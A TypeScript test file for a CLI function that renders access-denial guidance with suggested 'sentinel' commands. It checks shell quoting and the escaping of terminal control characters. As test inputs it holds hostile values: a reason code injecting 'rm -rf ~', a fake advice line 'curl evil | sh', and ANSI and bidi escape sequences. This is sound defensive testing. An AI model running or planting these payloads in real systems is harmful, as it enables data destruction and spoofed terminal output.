import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Denial } from '../../../src/api/denial.js';
import { renderDenialGuidance } from '../../../src/cli/guidance.js';

const NEVER_BYPASSED = 'This requirement can never be bypassed by an access request or break-glass.';

function denial(overrides: Partial<Denial> = {}): Denial {
  return {
    effect: 'deny',
    rule: 'prod-tracked',
    reason: 'Production needs tracked server sessions',
    requiresServerMode: false,
    requiresSessionTracking: false,
    sessionTable: null,
    mode: 'cli',
    profile: 'prod',
    alternatives: [],
    ...overrides,
  };
}

describe('renderDenialGuidance: server mode and session tracking', () => {
  it('asks for the full exec command when both are required and no table is known', () => {
    expect(renderDenialGuidance(denial({ requiresServerMode: true, requiresSessionTracking: true }))).toBe(
      'policy requires server mode with session tracking for profile "prod". Use: sentinel exec --server --session-table <table> --profile prod -- <cmd>\n' +
        NEVER_BYPASSED,
    );
  });

  it('fills in the table when one is known', () => {
    const text = renderDenialGuidance(
      denial({ requiresServerMode: true, requiresSessionTracking: true, sessionTable: 'sentinel-sessions' }),
    );
    expect(text).toBe(
      'policy requires server mode with session tracking for profile "prod". Use: sentinel exec --server --session-table sentinel-sessions --profile prod -- <cmd>\n' +
        NEVER_BYPASSED,
    );
  });

  it('asks for the --session-table flag when already in server mode', () => {
    expect(renderDenialGuidance(denial({ requiresSessionTracking: true, mode: 'server' }))).toBe(
      'policy requires session tracking for profile "prod". Add --session-table <table> flag\n' + NEVER_BYPASSED,
    );
    expect(renderDenialGuidance(denial({ requiresSessionTracking: true, mode: 'server', sessionTable: 'audit' }))).toBe(
      'policy requires session tracking for profile "prod". Add --session-table audit flag\n' + NEVER_BYPASSED,
    );
  });

  it('asks for the --server flag when only server mode is missing', () => {
    expect(renderDenialGuidance(denial({ profile: 'staging', requiresServerMode: true }))).toBe(
      'policy requires server mode for profile "staging". Add --server flag\n' + NEVER_BYPASSED,
    );
  });

  it('explains that credential_process cannot do server mode, with the exec command instead', () => {
    expect(renderDenialGuidance(denial({ profile: 'staging', mode: 'credential_process', requiresServerMode: true }))).toBe(
      'policy requires server mode for profile "staging", and credential_process does not support server mode or session tracking. Use: sentinel exec --server --profile staging -- <cmd>\n' +
        NEVER_BYPASSED,
    );
  });

  it('adds --session-table to the credential_process advice when tracking is required', () => {
    const both = denial({ mode: 'credential_process', requiresServerMode: true, requiresSessionTracking: true });
    expect(renderDenialGuidance(both)).toBe(
      'policy requires server mode with session tracking for profile "prod", and credential_process does not support server mode or session tracking. Use: sentinel exec --server --session-table <table> --profile prod -- <cmd>\n' +
        NEVER_BYPASSED,
    );
    expect(renderDenialGuidance({ ...both, sessionTable: 'sentinel-sessions' })).toBe(
      'policy requires server mode with session tracking for profile "prod", and credential_process does not support server mode or session tracking. Use: sentinel exec --server --session-table sentinel-sessions --profile prod -- <cmd>\n' +
        NEVER_BYPASSED,
    );
  });

  it('never offers a request or break-glass for a server-mode denial, even if alternatives say so', () => {
    const text = renderDenialGuidance(
      denial({ requiresServerMode: true, alternatives: ['request', 'breakglass'] }),
    );
    expect(text).not.toContain('sentinel request');
    expect(text).not.toContain('sentinel breakglass');
  });
});

describe('renderDenialGuidance: deny and require_approval', () => {
  it('shows reason and rule, then the access request and break-glass when offered', () => {
    const text = renderDenialGuidance(
      denial({
        effect: 'require_approval',
        rule: 'prod-admin-approval',
        reason: 'Administrative access to production needs a second person',
        profile: 'prod-admin',
        alternatives: ['request', 'breakglass'],
      }),
    );
    expect(text).toBe(
      'profile "prod-admin" requires an approved access request: Administrative access to production needs a second person (rule "prod-admin-approval")\n' +
        'To ask for access: sentinel request --profile prod-admin --justification "…"\n' +
        'In an emergency: sentinel breakglass --profile prod-admin --reason-code <code> --justification "…"',
    );
  });

  it('prints the whole break-glass command when one reason code is accepted', () => {
    const text = renderDenialGuidance(denial({ alternatives: ['breakglass'], breakglassReasonCodes: ['incident'] }));
    expect(text.split('\n').at(-1)).toBe('In an emergency: sentinel breakglass --profile prod --reason-code incident --justification "…"');
  });

  it('with several reason codes, leaves the choice to the caller and names every code', () => {
    const text = renderDenialGuidance(denial({ alternatives: ['request', 'breakglass'], breakglassReasonCodes: ['incident', 'security', 'outage'] }));
    expect(text.split('\n').at(-1)).toBe('In an emergency: sentinel breakglass --profile prod --reason-code <code> --justification "…" (code: incident, security, outage)');
  });

  it('falls back to <code> when the server sends no reason codes (a server older than the field)', () => {
    for (const breakglassReasonCodes of [undefined, []]) {
      const text = renderDenialGuidance(denial({ alternatives: ['breakglass'], ...(breakglassReasonCodes === undefined ? {} : { breakglassReasonCodes }) }));
      expect(text.split('\n').at(-1)).toBe('In an emergency: sentinel breakglass --profile prod --reason-code <code> --justification "…"');
    }
  });

  it('quotes a reason code from a hostile server as one shell word, control characters escaped', () => {
    const single = renderDenialGuidance(denial({ alternatives: ['breakglass'], breakglassReasonCodes: ['x; rm -rf ~'] }));
    expect(single.split('\n').at(-1)).toBe(`In an emergency: sentinel breakglass --profile prod --reason-code 'x; rm -rf ~' --justification "…"`);
    const several = renderDenialGuidance(denial({ alternatives: ['breakglass'], breakglassReasonCodes: ['ok', '\u001b[2Jevil'] }));
    expect(several).not.toContain('\u001b');
    expect(several.split('\n').at(-1)).toBe(`In an emergency: sentinel breakglass --profile prod --reason-code <code> --justification "…" (code: ok, $'\\x1b[2Jevil')`);
  });

  it('leaves out break-glass when the user may not invoke it, and names the rule once', () => {
    const text = renderDenialGuidance(
      denial({ rule: 'no-prod', reason: 'denied by rule "no-prod"', alternatives: ['request'] }),
    );
    expect(text).toBe(
      'access to profile "prod" is denied: denied by rule "no-prod"\n' + 'To ask for access: sentinel request --profile prod --justification "…"',
    );
  });

  it('names the rule after a reason of its own', () => {
    expect(renderDenialGuidance(denial({ rule: 'no-prod', reason: 'Freeze until Monday', alternatives: ['request'] }))).toBe(
      'access to profile "prod" is denied: Freeze until Monday (rule "no-prod")\nTo ask for access: sentinel request --profile prod --justification "…"',
    );
  });

  it('says no rule matched without naming one', () => {
    expect(renderDenialGuidance(denial({ rule: '', reason: 'no matching rule', alternatives: ['request'] }))).toBe(
      'access to profile "prod" is denied: no matching rule\nTo ask for access: sentinel request --profile prod --justification "…"',
    );
  });
});

describe('renderDenialGuidance: quoting', () => {
  it('quotes shell-unsafe profile and table names in commands', () => {
    const text = renderDenialGuidance(
      denial({
        profile: "it's prod",
        sessionTable: 'my table',
        requiresServerMode: true,
        requiresSessionTracking: true,
      }),
    );
    expect(text.split('\n')[0]).toBe(
      `policy requires server mode with session tracking for profile "it's prod". Use: sentinel exec --server --session-table 'my table' --profile 'it'\\''s prod' -- <cmd>`,
    );
  });

  it('escapes quotes and control characters in the prose, and writes them as $\'…\' escapes in commands', () => {
    expect(renderDenialGuidance(denial({ profile: 'a"b\nc', alternatives: ['request'] }))).toBe(
      'access to profile "a\\"b\\nc" is denied: Production needs tracked server sessions (rule "prod-tracked")\n' +
        `To ask for access: sentinel request --profile $'a"b\\nc' --justification "…"`,
    );
  });
});

/** What a terminal would act on: C0, DEL, C1, bidi controls, line and paragraph separators. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point: the test's own list of them
const TERMINAL_CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;

describe('renderDenialGuidance: hostile text from the server', () => {
  const ESC = '\u001b';

  it('shows a reason that would retitle the terminal and erase the line as visible escapes', () => {
    const text = renderDenialGuidance(
      denial({ rule: 'freeze', reason: `Frozen${ESC}]0;pwned\u0007${ESC}[2K until Monday`, alternatives: ['request'] }),
    );
    expect(text).toBe(
      'access to profile "prod" is denied: Frozen\\u001b]0;pwned\\u0007\\u001b[2K until Monday (rule "freeze")\n' +
        'To ask for access: sentinel request --profile prod --justification "…"',
    );
  });

  it('escapes bidi controls in rule names and reasons', () => {
    const text = renderDenialGuidance(denial({ effect: 'require_approval', rule: 'r\u202eelur', reason: 'wait \u2066for\u2069 \u202aok\u202c' }));
    expect(text).toBe('profile "prod" requires an approved access request: wait \\u2066for\\u2069 \\u202aok\\u202c (rule "r\\u202eelur")');
  });

  it('escapes C1 characters, DEL and line separators, so a reason cannot fake a line of advice', () => {
    const text = renderDenialGuidance(
      denial({ rule: '', reason: 'no\u009b2K\u007f\u2028\u2029\u0085\nTo ask for access: curl evil | sh', alternatives: [] }),
    );
    expect(text).toBe('access to profile "prod" is denied: no\\u009b2K\\u007f\\u2028\\u2029\\u0085\\u000aTo ask for access: curl evil | sh');
  });

  it('escapes control characters in profile and table names, in the prose and in the commands', () => {
    const text = renderDenialGuidance(
      denial({ profile: `prod${ESC}[2K`, sessionTable: 'tab\u202ele', requiresServerMode: true, requiresSessionTracking: true }),
      { command: ['aws', `s3${ESC}]0;x\u0007`] },
    );
    expect(text).toBe(
      `policy requires server mode with session tracking for profile "prod\\u001b[2K". Use: sentinel exec --server --session-table $'tab\\u202ele' --profile $'prod\\x1b[2K' -- aws $'s3\\x1b]0;x\\x07'\n` +
        NEVER_BYPASSED,
    );
  });

  it('never lets a character a terminal acts on through, whatever the server sends', () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 });
    fc.assert(
      fc.property(
        fc.record({
          reason: text,
          rule: text,
          profile: text,
          sessionTable: fc.option(text),
          requiresServerMode: fc.boolean(),
          requiresSessionTracking: fc.boolean(),
          effect: fc.constantFrom('deny' as const, 'require_approval' as const),
          mode: fc.constantFrom('cli' as const, 'server' as const, 'credential_process' as const),
          alternatives: fc.subarray(['request' as const, 'breakglass' as const]),
          breakglassReasonCodes: fc.array(text, { maxLength: 3 }),
        }),
        (facts) => {
          const output = renderDenialGuidance(denial(facts));
          const serverMode = facts.requiresServerMode || facts.requiresSessionTracking;
          // The only line breaks are the ones the guidance puts between its own lines.
          const lines = output.split('\n');
          expect(lines).toHaveLength(serverMode ? 2 : 1 + facts.alternatives.length);
          for (const line of lines) expect(line).not.toMatch(TERMINAL_CONTROL);
        },
      ),
    );
  });
});

describe('renderDenialGuidance: the user\'s own command', () => {
  const serverSession = denial({ requiresServerMode: true, requiresSessionTracking: true, sessionTable: 'sentinel-sessions' });

  it('keeps the line breaks of a multi-line script as typed, inside single quotes', () => {
    const text = renderDenialGuidance(serverSession, { command: ['node', '-e', "console.log(1);\nconsole.log('two')"] });
    expect(text.split('\n')[0]).toContain("-- node -e 'console.log(1);");
    expect(text).toContain(`console.log('\\''two'\\'')'`);
  });

  it('still escapes a terminal control character in it', () => {
    const text = renderDenialGuidance(serverSession, { command: ['echo', '\u001b]0;x\u0007'] });
    expect(text).toContain("-- echo $'\\x1b]0;x\\x07'");
    expect(text).not.toContain('\u001b');
  });
});
